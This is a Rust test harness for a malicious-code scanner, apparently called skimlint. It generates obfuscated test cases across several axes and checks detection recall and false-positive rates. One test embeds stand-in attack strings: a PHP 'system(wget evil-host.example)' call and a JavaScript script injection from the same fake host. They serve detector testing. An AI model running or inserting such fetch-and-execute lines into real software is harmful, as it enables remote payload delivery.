//! The technique matrix: behaviour × spelling × obfuscation × carrier, generated from the data
//! files in `tests/matrix/families/` (written from the platforms' documentation and the threat
//! model, never from samples), scanned in memory, and reported per axis.
//!
//! - `cargo test --release --test matrix` runs a seeded sample (about a fifth) and holds the
//!   floors below.
//! - `scripts/matrix.sh` runs every case and prints the full per-axis report
//!   (`cargo test --release --test matrix -- --ignored --nocapture full_matrix`).
//! - `SKIMLINT_MATRIX_DUMP=DIR` writes every wrong case into DIR (one file each) for debugging.
//! - `SKIMLINT_MATRIX_FAMILY=php/` keeps only the families whose name starts so (a faster
//!   run while working on one part; the floors of the sampled test then apply to that part).
//!
//! Which cases exist: for each behaviour, every slot combination (capped) with every
//! obfuscation, the carrier rotating; and every carrier with every obfuscation, the spelling
//! rotating. So each pair of axes meets, without the full four-way product.

mod carriers;
mod obfuscate;
mod report;
mod spec;

use std::path::PathBuf;
use std::sync::Arc;

use rayon::prelude::*;

use skimlint::fold::Limits;
use skimlint::input::source::SourceFile;
use skimlint::rules::{RuleSet, Severity};
use skimlint::scan::scan_source;

use spec::{Family, Verdict};

/// Slot combinations kept per behaviour (seeded choice when there are more).
const MAX_SPELLINGS: usize = 24;
/// The sample run by `cargo test` keeps one case in this many.
const SAMPLE_ONE_IN: u64 = 5;
const SEED: u64 = 0x5c1a_2026;

pub struct Case {
    pub family: String,
    pub behaviour: String,
    /// The slot spellings chosen, `slot=value` each.
    pub spellings: Vec<String>,
    pub obfuscation: String,
    pub carrier: String,
    pub verdict: Verdict,
    pub file: String,
    pub bytes: Vec<u8>,
}

/// What a scan of a case gave: the highest severity reported, and the rules at that level.
pub struct Outcome {
    pub worst: Option<Severity>,
    pub rules: Vec<String>,
    pub problems: Vec<String>,
}

impl Outcome {
    pub fn passes(&self, verdict: Verdict) -> bool {
        match verdict {
            Verdict::Bad => self.worst >= Some(Severity::Warning),
            Verdict::Error => self.worst >= Some(Severity::Error),
            Verdict::Good => self.worst < Some(Severity::Warning),
        }
    }
}

fn families_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/matrix/families")
}

fn hash(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3)
    })
}

pub fn generate(families: &[Family]) -> Vec<Case> {
    let mut cases = Vec::new();
    for family in families {
        let mut rng = obfuscate::Rng::new(SEED ^ hash(&family.family));
        for b in &family.behaviours {
            let mut spellings = spec::expand_slots(&b.code, &family.slots);
            if spellings.len() > MAX_SPELLINGS {
                rng.shuffle(&mut spellings);
                spellings.truncate(MAX_SPELLINGS);
                spellings.sort();
            }
            let obfuscations: Vec<String> = b
                .obfuscations
                .clone()
                .or_else(|| family.obfuscations.clone())
                .unwrap_or_else(|| {
                    obfuscate::all(family.language)
                        .iter()
                        .map(|s| s.to_string())
                        .collect()
                });
            let carriers: Vec<String> = b
                .carriers
                .clone()
                .or_else(|| family.carriers.clone())
                .unwrap_or_else(|| {
                    carriers::all(family.language)
                        .iter()
                        .map(|s| s.to_string())
                        .collect()
                });
            let mut combos = Vec::new();
            for (si, _) in spellings.iter().enumerate() {
                for (oi, _) in obfuscations.iter().enumerate() {
                    combos.push((si, oi, (si + oi) % carriers.len()));
                }
            }
            for (ci, _) in carriers.iter().enumerate() {
                for (oi, _) in obfuscations.iter().enumerate() {
                    combos.push(((ci * 7 + oi) % spellings.len(), oi, ci));
                }
            }
            combos.sort();
            combos.dedup();
            for (si, oi, ci) in combos {
                let (label, code) = &spellings[si];
                let program = obfuscate::render(family.language, code, &obfuscations[oi], &mut rng);
                let (file, bytes) = carriers::carry(family.language, &carriers[ci], &program);
                cases.push(Case {
                    family: family.family.clone(),
                    behaviour: b.name.clone(),
                    spellings: label.clone(),
                    obfuscation: obfuscations[oi].clone(),
                    carrier: carriers[ci].clone(),
                    verdict: b.verdict,
                    file,
                    bytes,
                });
            }
        }
    }
    cases
}

fn rules() -> RuleSet {
    skimlint::rules::load_builtin_and(&[]).expect("built-in rules load")
}

pub fn scan(rules: &RuleSet, case: &Case) -> Outcome {
    let file = SourceFile {
        display_path: format!("case/{}", case.file),
        disk_path: PathBuf::from(&case.file),
        bytes: Arc::new(case.bytes.clone()),
    };
    let (findings, problems) = scan_source(&file, rules, &Limits::default());
    let worst = findings.iter().map(|f| f.severity).max();
    let mut at_worst: Vec<String> = findings
        .iter()
        .filter(|f| Some(f.severity) == worst)
        .map(|f| f.rule_id.clone())
        .collect();
    at_worst.sort();
    at_worst.dedup();
    Outcome {
        worst,
        rules: at_worst,
        problems: problems.into_iter().map(|p| p.message).collect(),
    }
}

fn run(sample: bool) -> report::Report {
    let families = spec::load_families(&families_dir());
    let mut cases = generate(&families);
    // `SKIMLINT_MATRIX_FAMILY=js/` keeps the families whose name starts with it (iteration).
    let only = std::env::var("SKIMLINT_MATRIX_FAMILY").unwrap_or_default();
    cases.retain(|c| c.family.starts_with(&only));
    if sample {
        cases.retain(|c| {
            let key = format!(
                "{}|{}|{:?}|{}|{}",
                c.behaviour, c.family, c.spellings, c.obfuscation, c.carrier
            );
            hash(&key).is_multiple_of(SAMPLE_ONE_IN)
        });
    }
    let rules = rules();
    let outcomes: Vec<Outcome> = cases.par_iter().map(|c| scan(&rules, c)).collect();
    if let Some(dir) = std::env::var_os("SKIMLINT_MATRIX_DUMP") {
        report::dump(&PathBuf::from(dir), &cases, &outcomes);
    }
    report::Report::new(&cases, &outcomes)
}

/// The floors the sampled matrix must hold. Issue 13's targets are recall ≥ 0.97 and at most
/// 1 % of near-misses flagged. The flagged ceiling is the target; the recall floor is a ratchet
/// at the last measured value (0.902 on this sample, 0.908 on the full matrix), raised as
/// detection catches up and never lowered. docs/matrix.md gives the figures per family.
const RECALL_FLOOR: f64 = 0.90;
const FLAGGED_CEILING: f64 = 0.01;

#[test]
fn sampled_matrix_holds_its_floors() {
    let report = run(true);
    println!("{}", report.render(false));
    assert!(report.cases() >= 400, "only {} cases", report.cases());
    assert!(
        report.recall() >= RECALL_FLOOR,
        "recall {:.3} below {RECALL_FLOOR}",
        report.recall()
    );
    assert!(
        report.flagged() <= FLAGGED_CEILING,
        "{:.3} of near-misses flagged",
        report.flagged()
    );
}

#[test]
#[ignore = "the full matrix: scripts/matrix.sh"]
fn full_matrix() {
    let report = run(false);
    println!("{}", report.render(true));
    if std::env::var_os("SKIMLINT_MATRIX_FAMILY").is_none() {
        assert!(report.cases() >= 2000, "only {} cases", report.cases());
    }
}

#[test]
fn generation_is_deterministic() {
    let families = spec::load_families(&families_dir());
    let a = generate(&families);
    let b = generate(&families);
    assert_eq!(a.len(), b.len());
    assert!(a
        .iter()
        .zip(&b)
        .all(|(x, y)| x.bytes == y.bytes && x.file == y.file));
}

/// The obfuscations and carriers really hide and carry what they claim: a marked literal does
/// not survive in plain text under the hiding styles, and every carrier keeps the code.
#[test]
fn obfuscations_hide_the_marked_strings() {
    use spec::Language;
    let mut rng = obfuscate::Rng::new(1);
    for o in obfuscate::JS.iter().filter(|o| **o != "plain") {
        let out = obfuscate::render(
            Language::Javascript,
            "x⟨appendChild⟩(«evil-host.example»);",
            o,
            &mut rng,
        );
        assert!(!out.contains("evil-host.example"), "{o}: {out}");
    }
    for o in obfuscate::PHP.iter().filter(|o| {
        !matches!(
            **o,
            "plain" | "goto" | "varfunc" | "globals" | "varfunc+goto"
        )
    }) {
        let out = obfuscate::render(
            Language::Php,
            "⟨system⟩(«wget evil-host.example»);",
            o,
            &mut rng,
        );
        assert!(!out.contains("evil-host.example"), "{o}: {out}");
    }
    // Every carrier but `data-url` (which encodes the code into the script's address) holds
    // the code as written.
    for c in carriers::JS.iter().filter(|c| **c != "data-url") {
        let (_, bytes) = carriers::carry(Language::Javascript, c, "var a = 1;");
        assert!(
            String::from_utf8_lossy(&bytes).contains("var a = 1;"),
            "{c}"
        );
    }
}
